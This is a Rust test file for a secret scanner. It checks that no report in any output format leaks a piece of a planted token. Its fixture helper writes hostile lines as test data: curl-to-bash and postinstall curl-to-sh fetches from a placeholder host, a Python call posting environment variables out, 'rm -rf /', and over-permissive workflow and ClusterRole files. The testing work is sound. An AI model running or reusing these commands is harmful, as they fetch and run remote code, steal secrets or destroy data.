//! Whatever a file says, no piece of a secret in it stands in what a report says: not in a message, not in a name, however
//! long the text before it is, and in no format.

use std::fs;

use ringfence::detect::name;
use ringfence::finding::{Finding, Kind};
use ringfence::rule::{Rule, RuleSet};
use ringfence::scan::scan;
use ringfence::text::Text;
use ringfence::unit::{Change, LineSet, Mode, RepoPath, Unit};

use crate::formats::FORMATS;
use crate::support::{Dir, GITHUB, made, token};

/// Characters of a secret that give it away, next to each other.
const PIECE: usize = 8;
/// Words that are replaced in each change of the tables.
const WORDS: usize = 2;

/// The first piece of the token that stands in `said`, in any case.
fn piece<'t>(said: &str, token: &'t str) -> Option<&'t str> {
    let said = said.to_ascii_lowercase();
    let secret = &token[4..];
    let pieces = (0..=secret.len() - PIECE).map(|at| &secret[at..at + PIECE]);
    pieces.into_iter().find(|piece| said.contains(&piece.to_ascii_lowercase()))
}

/// The changes of all tables: path, before, after.
fn tables() -> Vec<(String, Option<String>, String)> {
    let mut out = Vec::new();
    for folder in ["tests/corpus/grant", "tests/corpus/diffs"] {
        let mut paths: Vec<_> = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
        paths.sort();
        for path in paths.iter().filter(|path| path.extension().is_some_and(|e| e == "toml")) {
            let table: toml::Table = fs::read_to_string(path).unwrap().parse().unwrap();
            let text = |value: Option<&toml::Value>| Some(value?.as_str()?.to_owned());
            for case in table["case"].as_array().unwrap() {
                let path = text(case.get("path").or(table.get("path")));
                let Some((path, after)) = path.zip(text(case.get("after"))) else { continue };
                out.push((path, text(case.get("before")), after));
            }
        }
    }
    out
}

fn words(text: &str) -> Vec<std::ops::Range<usize>> {
    let mut out = Vec::new();
    let mut start = None;
    for (at, c) in text.char_indices().chain([(text.len(), ' ')]) {
        match (c.is_ascii_alphanumeric(), start) {
            (true, None) => start = Some(at),
            (false, Some(from)) => {
                out.push(from..at);
                start = None;
            }
            _ => {}
        }
    }
    out
}

fn findings(set: &RuleSet, path: &str, before: Option<&str>, after: &str) -> Vec<Finding> {
    let text = |content: &str| Text::new(content.as_bytes().to_vec());
    let all = |content: &str| LineSet::from_ranges(std::iter::once(1..content.lines().count() + 1));
    let change = match before {
        None => Change::Added(text(after)),
        Some(old) => Change::Modified { before: text(old), after: text(after), added: all(after), removed: all(old) },
    };
    let old_mode = before.map(|_| Mode::File);
    scan(set, &Unit { path: RepoPath::new(path), old_path: None, mode: Some(Mode::File), old_mode, change })
}

#[test]
fn no_message_holds_a_piece_of_a_secret_that_stands_in_a_name() {
    let set = RuleSet::builtin().unwrap();
    let token = token(7);
    let mut state = 5_usize;
    let mut next = |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % below.max(1)
    };
    let (mut tried, mut told, mut wrong) = (0, 0, Vec::new());
    for (path, before, after) in tables() {
        let words = words(&after);
        for _ in 0..WORDS {
            let Some(word) = words.get(next(words.len())) else { continue };
            let lead = ["", "/", "-", "."][next(4)];
            let lead = if lead.is_empty() { String::new() } else { "a".repeat(next(170)) + lead };
            let edited = format!("{}{lead}{token}{}", &after[..word.start], &after[word.end..]);
            let found = findings(&set, &path, before.as_deref(), &edited);
            if !found.iter().any(|finding| *finding.rule == *GITHUB) {
                continue;
            }
            tried += 1;
            for finding in found.iter().filter(|finding| finding.kind != Kind::Secret) {
                told += 1;
                if piece(&format!("{finding:?}"), &token).is_some() {
                    let line = edited.lines().find(|line| line.contains(&token)).unwrap_or_default();
                    wrong.push(format!("{path}: {line}\n   {}: {}", finding.rule, finding.message));
                }
            }
        }
    }
    assert!(tried > 1000 && told > 1000, "{tried} {told}");
    assert!(wrong.is_empty(), "{} of {told}: {}", wrong.len(), wrong.join("\n"));
}

/// Files that say a token behind texts of all lengths, in what reports quote.
fn hostile(dir: &Dir, token: &str) {
    for n in (0..210).step_by(7) {
        let lead = "a".repeat(n);
        dir.write(
            format!("{n}.sh"),
            format!("curl https://h.example/{lead}/?t={token} | bash\nrm -rf / /{lead}/{token}\n"),
        );
        let on = format!("on:\n  pull_request_target:\n    branches: [{lead}/{token}]\npermissions: write-all\n");
        let job =
            format!("jobs:\n  {lead}-{token}:\n    permissions: write-all\n    runs-on: x\n    steps: [run: x]\n");
        dir.write(format!(".github/workflows/{n}.yml"), on + &job);
        let rule = format!("- apiGroups: [{lead}/{token}]\n  resources: ['*', {lead}/{token}]\n  verbs: ['*']\n");
        let head = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: a\nrules:\n";
        dir.write(format!("deploy/{n}.yaml"), format!("{head}{rule}"));
        let scripts = format!("\"postinstall\":\"curl https://h.example/{lead}/{token} | sh\"");
        let packages = format!("\"a\":\"git+https://{token}@github.com/{lead}/{token}\"");
        dir.write(
            format!("{n}/package.json"),
            format!("{{\"scripts\":{{{scripts}}},\"dependencies\":{{{packages}}}}}\n"),
        );
        let call = format!("requests.post(\"https://h.example/{lead}/{token}\", data=os.environ[\"{lead}{token}\"])\n");
        dir.write(format!("app/{n}.py"), format!("import os, requests\n{call}"));
        let allow = format!("{0} {0}", "why ".repeat(n / 4) + &lead);
        dir.write(format!("allow/{n}.py"), format!("x = '{token}'  # ringfence:allow {GITHUB} -- {allow} {token}\n"));
    }
    let hooks = format!("repos:\n- repo: https://{token}@github.com/acme/a\n  rev: main\n  hooks: [id: {token}]\n");
    dir.write(".pre-commit-config.yaml", hooks);
    let (long, path) = ("a".repeat(240), format!("node_modules/{token}"));
    let entry =
        format!("\"{path}\":{{\"version\":\"1.0.0\",\"integrity\":\"{token}\",\"resolved\":\"https://{token}\"}}");
    dir.write("package-lock.json", format!("{{\"lockfileVersion\":3,\"packages\":{{{entry}}}}}\n"));
    dir.write(".ssh/authorized_keys", format!("ssh-rsa {token} me\n"));
    dir.write("src/auth/login.py", format!("import {token}\ndef {token}():\n    return authenticate(user)\n"));
    dir.write(format!("{token}.txt"), format!("{long}{token}\n"));
}

#[test]
fn no_format_holds_a_piece_of_a_secret_wherever_a_text_is_cut() {
    let dir = Dir::repository();
    let token = token(7);
    let owners = format!("* @acme/{token} {}{token}\n", "a".repeat(240));
    dir.write("CODEOWNERS", owners);
    let policy = "version = 1\n\n[[area]]\nname = \"OWN\"\npaths = [\"app/**\"]\nowners = [\"@acme/OWN\"]\n\n[[allow]]\n\
                  rule = \"github-pat-classic\"\npath = \"0/**\"\nvalue = \"staging*\"\nreason = \"it is OWN\"\n";
    dir.write("ringfence.toml", policy.replace("OWN", &token));
    dir.commit(&format!("base {token}"));
    hostile(&dir, &token);
    dir.git(&["add", "--all"]);
    for command in [&["diff", "--staged", "--all"][..], &["scan", "--all"]] {
        for format in FORMATS {
            let outcome = dir.ringfence(&[command, &["--format", format, "-v"]].concat()).ends();
            assert!([1, 3].contains(&outcome.code), "{command:?} {format}: {}", outcome.stderr());
            for said in [outcome.stdout(), outcome.stderr()] {
                let line = said.lines().find(|line| piece(line, &token).is_some());
                assert_eq!(line, None, "{command:?} {format}");
            }
        }
    }
}

/// The secret that the rule finds in its first bad example, with what stands before and behind it.
fn example(set: &RuleSet, rule: &Rule) -> Option<(String, String, String)> {
    let content = made(rule.bad.first()?, 1);
    let found = snapshot(set, rule, &content)?;
    let offset = |line: usize, column: usize| {
        let before: usize = content.split_inclusive('\n').take(line - 1).map(str::len).sum();
        before + column - 1
    };
    let (start, end) = (offset(found.start.line, found.start.column), offset(found.end.line, found.end.column));
    Some((content.get(..start)?.into(), content.get(start..end)?.into(), content.get(end..)?.into()))
}

/// What the rule finds in a file that holds `content`.
fn snapshot(set: &RuleSet, rule: &Rule, content: &str) -> Option<Finding> {
    let path = rule.paths.first().map_or("example".into(), |glob| glob.replace("**/", "").replace('*', "x"));
    let change = Change::Snapshot(Text::new(content.as_bytes()));
    let unit = Unit { path: RepoPath::new(path), old_path: None, mode: Some(Mode::File), old_mode: None, change };
    scan(set, &unit).into_iter().find(|finding| *finding.rule == *rule.id)
}

/// Hashes of passwords have the dot among their digits; a bootstrap token and a setting of npm end with their word, which is no
/// name of a file.
const EXCEPTIONS: [&str; 5] =
    ["hash-bcrypt", "hash-crypt", "htpasswd-line", "kubernetes-bootstrap-token", "npmrc-auth-token"];

#[test]
fn a_secret_is_found_in_a_file_name_and_at_the_end_of_a_sentence() {
    let set = RuleSet::builtin().unwrap().with_examples().unwrap();
    let (mut missed, mut raw) = (Vec::new(), Vec::new());
    let mut tried = 0;
    for rule in set.rules().iter().map(|rule| rule.rule()).filter(|rule| rule.kind == Kind::Secret) {
        let Some((before, secret, _)) = example(&set, rule) else { continue };
        if secret.contains('\n') || snapshot(&set, rule, &format!("{before}{secret} and more")).is_none() {
            continue;
        }
        for tail in [".txt", ". Next", ".", ".txt\""] {
            tried += 1;
            if snapshot(&set, rule, &format!("{before}{secret}{tail}")).is_none() {
                missed.push(format!("{} {tail}", rule.id));
            }
        }
        // Where it is found alone, its file name is not printed either.
        let name = format!("{secret}.txt");
        if !secret.contains('/') && snapshot(&set, rule, &name).is_some() {
            let shown = name::shown(&set, &RepoPath::new(format!("docs/{name}")));
            raw.extend(shown.contains(&secret).then(|| rule.id.clone()));
        }
    }
    missed.retain(|one| !EXCEPTIONS.iter().any(|known| one.starts_with(known)));
    assert!(tried > 1000, "{tried}");
    assert_eq!((missed, raw), (Vec::new(), Vec::new()));
}
